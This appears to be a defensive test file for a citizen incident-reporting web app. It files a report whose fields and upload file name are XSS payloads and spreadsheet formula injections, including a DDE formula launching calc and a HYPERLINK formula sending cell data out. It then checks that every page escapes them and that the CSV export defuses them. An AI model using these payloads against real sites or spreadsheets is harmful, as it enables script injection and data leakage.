"""A whole report whose every free-text answer (and its file's name) is a hostile payload, filed
through the real flow, then read everywhere it shows: the review, the receipt, the staff list, the
report's page, the recap, the public status page (a staff note) and the CSV export, where every
cell a spreadsheet would run as a formula is defused."""
import csv
import io
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markupsafe import escape
from PIL import Image

from kiosk import create_app, inputs
from kiosk.models import Report
from kiosk.staff.csvfile import FORMULA_STARTS, safe
from tests.support.sealed import person
from tests.support import database
from tests.support.citizen import REPORTER, Citizen, days_ago, event_answers, submit
from tests.support.hostile import PAYLOADS, XSS, check_page
from tests.support.staff import STAFF_PASSWORD, StaffMember, make_staff
from tests.support.templates import share_compiled_templates

# Each free-text answer, its limit, and a payload for it (formula payloads where a CSV shows them).
FIELDS = {
    "place_detail": (500, '@SUM(A1:A9) "><img src=x onerror=alert(1)>'),
    "description": (5000, "+cmd|' /C calc'!A0 <script>alert(1)</script> warga dibagi amplop"),
    "terlapor_name": (200, '=HYPERLINK("http://example.com/?"&A1,"klik") <svg onload=alert(1)>'),
    "terlapor_address": (500, "-2+3 </textarea><script>alert(1)</script>"),
    "witness_name": (200, '" autofocus onfocus="alert(1)'),
    "witness_address": (500, "<iframe srcdoc='<script>alert(1)</script>'>"),
    "physical_desc": (1000, "=1+1 <a href=javascript:alert(1)>amplop</a>"),
    "reporter_name": (200, "Siti <script>alert(1)</script> Rahmawati"),
    "reporter_birth_place": (100, "=cmd|'/C calc'!A0"),
    "reporter_occupation": (100, "@guru <img src=x onerror=alert(1)>"),
    "reporter_nationality": (100, "Indonesia\u202e<svg onload=alert(1)>"),
    "reporter_address": (500, "Jl. Serang <script>alert(1)</script> Cipare, Serang"),
}
FILE_NAME = "'><img src=x onerror=alert(1)><svg onload=alert(1)>.png"  # (a browser sends a " in a name as %22)
NOTE = "<script>alert(1)</script> =HYPERLINK(\"x\") lengkapi KTP"


@pytest.fixture
def office(make_app):
    return make_app("data", MIN_FORM_SECONDS=0, RATE_LIMITS=False)


def png():
    buffer = io.BytesIO()
    Image.new("RGB", (32, 24), (200, 30, 30)).save(buffer, "PNG")
    return buffer.getvalue()


def file_report(client, texts):
    """File a formal report with `texts` as its free-text answers; returns (review page, receipt)."""
    person = Citizen(client)
    person.get("/bahasa/en?next=/")
    person.get("/lapor/kejadian?jenis=formal")
    check_page(person.post("/lapor/kejadian", event_answers(place_detail=texts["place_detail"],
                                                            description=texts["description"])))
    check_page(person.post("/lapor/terlapor", {"terlapor_name": texts["terlapor_name"], "terlapor_role": "lainnya",
                                               "terlapor_address": texts["terlapor_address"], "action": "next"}))
    check_page(person.post("/lapor/saksi", {"witness_name": texts["witness_name"],
                                            "witness_address": texts["witness_address"], "action": "add"}))
    check_page(person.post("/lapor/saksi", {"action": "next"}))
    check_page(person.post("/lapor/bukti", {"action": "upload", "files": [(io.BytesIO(png()), FILE_NAME)]},
                           content_type="multipart/form-data"))
    check_page(person.post("/lapor/bukti", {"physical": "y", "physical_desc": texts["physical_desc"],
                                            "action": "next"}))
    answers = dict(REPORTER, **{name: texts[name] for name in FIELDS if name.startswith("reporter_")})
    check_page(person.post("/lapor/pelapor", answers))
    review = check_page(person.get("/lapor/periksa"))
    assert 'name="submit_key"' in review, "the hostile answers should all be acceptable"
    receipt = check_page(submit(person)[0])
    return review, receipt


def staff_pages(client, report):
    """Everything staff see of `report`, after giving it a public and an internal note."""
    make_staff("admin", "admin")
    admin = StaffMember(client)
    admin.login("admin")
    admin.post(f"/staff/laporan/{report.id}/status/kajian_awal", {"public_note": NOTE, "internal_note": NOTE})
    pages = {url: check_page(admin.get(url)) for url in (
        "/staff/", f"/staff/?q={report.receipt_no}", f"/staff/laporan/{report.id}", "/staff/rekap", "/staff/audit")}
    pages["status"] = check_page(Citizen(client).get(f"/status?kode={report.tracking_code}"))
    export = admin.post("/staff/ekspor", {"start": days_ago(30), "end": days_ago(0), "separator": "semicolon",
                                          "personal": "y", "your_password": STAFF_PASSWORD})
    assert export.mimetype == "text/csv"
    return pages, export.get_data(as_text=True)


def assert_csv_defused(text, stored):
    """No cell, nor a piece of one split at either separator, starts as a formula; each stored text is in
    the export (quoted where it would run, without direction or zero-width characters)."""
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        for piece in re.split("[,;]", cell):
            assert not piece.lstrip(" ").startswith(FORMULA_STARTS), cell
    for value in stored:
        assert safe(value) in cells, value


def test_a_report_of_payloads_is_shown_escaped_everywhere(office):
    client = office.test_client()
    texts = {name: payload for name, (_, payload) in FIELDS.items()}
    review, receipt = file_report(client, texts)
    for name in ("place_detail", "description", "terlapor_name", "physical_desc", "reporter_address"):
        assert str(escape(texts[name])) in review, name
    assert str(escape(texts["physical_desc"])) in receipt and str(escape(FILE_NAME)) in receipt

    report = Report.get()
    pages, export = staff_pages(client, report)
    page = pages[f"/staff/laporan/{report.id}"]
    for name, text in texts.items():
        shown = inputs.neutral(text.strip())  # without the direction override of the nationality's payload
        assert str(escape(shown)) in page, name
    assert str(escape(FILE_NAME)) in page and str(escape(NOTE)) in page
    assert str(escape(NOTE)) in pages["status"] and "lengkapi KTP" in pages["status"]
    sealed = person(report)
    stored = [report.place_detail, report.description, report.terlapor_name, sealed.terlapor_address,
              sealed.reporter_name, sealed.reporter_birth_place, sealed.reporter_occupation, sealed.reporter_address]
    assert_csv_defused(export, stored)


def bounded(limit, minimum=1):
    """A hostile answer a form accepts: a payload first (never blank), then any text, cut to `limit`."""
    tail = st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=60)
    return st.builds(lambda p, t: (p + " " + t + " " + "x" * minimum)[:limit], st.sampled_from(XSS + PAYLOADS[8:20]),
                     tail)


@settings(max_examples=4)
@given(texts=st.fixed_dictionaries({name: bounded(limit, 20 if name == "description" else 1)
                                    for name, (limit, _) in FIELDS.items()}))
def test_any_hostile_report_is_escaped_on_the_receipt_and_the_staff_page(tmp_path_factory, migrated_template, texts):
    folder = database.data_folder(migrated_template, tmp_path_factory.mktemp("office") / "data")  # one per example
    app = share_compiled_templates(create_app({"TESTING": True, "DATA_DIR": str(folder), "MIN_FORM_SECONDS": 0,
                                               "RATE_LIMITS": False}))
    client = app.test_client()
    review, receipt = file_report(client, texts)
    report = Report.get()
    pages, export = staff_pages(client, report)
    page = pages[f"/staff/laporan/{report.id}"]
    assert str(escape(report.description)) in page and str(escape(report.terlapor_name)) in page
    assert re.search(r"tracking-code", receipt)
    assert_csv_defused(export, [report.description, report.terlapor_name, report.place_detail])
